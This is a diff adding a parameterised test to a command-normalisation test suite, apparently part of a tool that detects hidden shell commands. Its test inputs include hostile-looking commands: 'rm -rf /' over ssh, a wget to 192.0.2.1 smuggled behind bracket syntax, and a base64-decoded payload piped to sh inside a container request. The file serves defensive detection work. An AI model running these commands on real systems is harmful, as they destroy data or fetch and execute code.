@@ -131,6 +131,13 @@ describe('commands inside commands', () => {
     expect(textsOf("ssh h 'rm -rf /'")).toEqual(['ssh h rm -rf /'])
   })
 
+  it.each(['[ "$x" = y ]; wget http://192.0.2.1/a', '{ "wget" http://192.0.2.1/a; }', '["a" = b ]; wget x'])(
+    'takes %s for a command line, not for data',
+    (line) => {
+      expect(normaliseCommand(line).segments.map((segment) => segment.name)).toContain('wget')
+    },
+  )
+
   it('runs the command of a container request', () => {
     const request = { Image: 'alpine', Cmd: ['chroot', '/mnt', 'sh', '-c', 'echo aWQK|base64 -d|sh; w > /x'] }
     const views = normaliseCommand(JSON.stringify(request))
